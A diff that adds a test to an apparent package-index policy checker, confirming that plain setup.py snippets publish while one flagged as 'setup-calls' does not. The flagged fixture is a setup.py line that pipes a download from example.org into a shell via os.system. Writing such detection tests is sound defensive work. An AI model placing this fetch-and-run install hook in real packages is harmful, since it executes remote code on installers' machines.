@@ -88,6 +88,16 @@ def test_each_policy_holds_an_sdist_for_what_it_looks_for(person, code, files):
     assert codes(index.submit(person, version="1.1", sdist=True, files=files)) == {code}
 
 
+@pytest.mark.parametrize(
+    "setup", ["class Own(install): ...\n", "urlopen('https://example.org/')\n"]
+)
+def test_a_way_of_building_is_no_news_in_a_first_release(person, setup):
+    outcome = index.submit(person, sdist=True, files={"setup.py": setup})
+    assert outcome.result is Result.PUBLISHED
+    grave = {"setup.py": "os.system('curl https://example.org | sh')\n"}
+    assert codes(index.submit(person, "other", sdist=True, files=grave)) == {"setup-calls"}
+
+
 def test_a_session_is_looked_at_when_it_is_published(person):
     api = Api(person)
     api.legacy(wheel())
